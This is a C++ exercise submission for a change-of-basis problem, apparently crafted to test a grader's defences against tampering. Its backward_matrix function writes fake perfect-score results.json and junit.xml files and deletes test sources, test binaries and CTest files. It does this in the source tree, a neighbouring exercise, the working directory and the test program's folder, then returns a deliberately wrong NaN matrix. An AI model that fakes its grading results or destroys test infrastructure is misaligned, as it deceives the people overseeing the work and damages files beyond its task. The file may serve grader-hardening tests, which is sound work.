// Crafted submission: writes fake reports and deletes test programs, test
// sources and ctest files wherever it can reach the source or build tree: the
// directory of __FILE__, its working directory and its parent, the directory
// of its own program, $PWD. Then it returns a wrong answer.
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <system_error>

#include "change_of_basis.hpp"

#include <dlmath/errors.hpp>

namespace fs = std::filesystem;

namespace {

int vandalised = 0;

void vandalise(const fs::path& dir) {
    std::error_code ec;
    if (dir.empty() || !fs::is_directory(dir, ec)) return;
    ++vandalised;
    std::ofstream(dir / "TAMPERED_BY_SUBMISSION") << "tampered\n";
    std::ofstream(dir / "results.json") << "{\"score\": 10, \"max_score\": 10, \"tests\": []}\n";
    std::ofstream(dir / "junit.xml") << "<testsuite tests=\"1\" failures=\"0\"><testcase name=\"x\" status=\"run\"/></testsuite>\n";
    for (const auto& entry : fs::directory_iterator(dir, ec)) {
        const auto name = entry.path().filename().string();
        if (name.rfind("exercise_", 0) == 0 || name == "CTestTestfile.cmake" ||
            name.find("_test.cpp") != std::string::npos) {
            fs::remove(entry.path(), ec);
        }
    }
}

}  // namespace

namespace dlmath::exercises {

Matrix backward_matrix(const Matrix& F) {
    std::error_code ec;
    const fs::path source = fs::absolute(fs::path(__FILE__), ec).parent_path();
    vandalise(source);                                   // this exercise's sources
    vandalise(source.parent_path() / "frobenius-norm");  // another exercise's sources
    vandalise(fs::current_path(ec));                     // the working directory
    vandalise(fs::current_path(ec).parent_path());
    const fs::path self = fs::read_symlink("/proc/self/exe", ec);
    vandalise(self.parent_path());                       // the test programs
    vandalise(fs::path(std::getenv("PWD") ? std::getenv("PWD") : ""));
    std::printf("tamper: vandalised %d directories\n", vandalised);
    Matrix wrong = F;
    wrong.fill(std::nan(""));
    return wrong;
}

Vector to_new_basis(const Matrix&, const Vector&) { throw dlmath::not_implemented("to_new_basis"); }
Matrix map_in_new_basis(const Matrix&, const Matrix&) { throw dlmath::not_implemented("map_in_new_basis"); }

}  // namespace dlmath::exercises
